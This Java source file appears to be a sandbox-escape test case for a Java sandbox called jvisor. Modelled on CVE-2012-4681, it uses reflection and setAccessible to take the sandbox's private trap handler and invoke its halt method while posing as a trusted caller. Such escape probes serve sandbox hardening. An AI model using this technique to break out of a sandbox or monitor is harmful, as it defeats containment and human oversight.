package escape.hypervisor;

import java.lang.reflect.Method;

/**
 * Gets jvisor's installed handler itself from the package-private {@code Traps.handler()} by
 * {@code setAccessible}, and calls its {@code halt(int, Class)} with {@code Object.class} as the
 * caller: the hypervisor's own object, in guest hands. Without jvisor the program just exits.
 *
 * <p>Source: CVE-2012-4681 (private members of the sandbox reached by reflection),
 * https://nvd.nist.gov/vuln/detail/CVE-2012-4681
 */
public final class RealHandlerHalt {

    private RealHandlerHalt() {
    }

    public static void main(String[] args) {
        try {
            Method get = Class.forName("io.jvisor.hooks.Traps").getDeclaredMethod("handler");
            get.setAccessible(true);
            Object handler = get.invoke(null);
            System.out.println("hypervisor-real-handler: got " + handler + "; calling halt(0, Object.class)");
            Class.forName("io.jvisor.hooks.TrapHandler").getMethod("halt", int.class, Class.class)
                    .invoke(handler, 0, Object.class);
            System.out.println("hypervisor-real-handler: halt returned");
        } catch (ClassNotFoundException e) {
            System.out.println("hypervisor-real-handler: no jvisor here (" + e.getMessage() + "); exiting plainly");
        } catch (Throwable t) {
            System.out.println("hypervisor-real-handler: " + t);
        }
        Permissive.exitEveryWay("hypervisor-real-handler");
    }
}
